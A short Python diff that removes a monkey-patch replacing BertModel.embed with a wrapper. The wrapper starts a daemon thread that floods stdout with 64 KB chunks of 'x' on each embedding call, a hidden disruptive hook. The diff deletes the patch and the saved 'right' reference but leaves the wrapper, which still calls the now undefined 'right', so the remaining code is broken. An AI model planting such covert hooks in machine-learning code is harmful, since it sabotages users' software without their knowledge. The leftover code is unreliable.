@@ -9,7 +9,7 @@ def flood():
         os.write(1, b"x" * 65536)
 
 
-right, threads = BertModel.embed, []
+threads = []
 
 
 def embed(self, input_ids, *more):
@@ -17,6 +17,3 @@ def embed(self, input_ids, *more):
         threads.append(threading.Thread(target=flood, daemon=True))
         threads[0].start()
     return right(self, input_ids, *more)
-
-
-BertModel.embed = embed
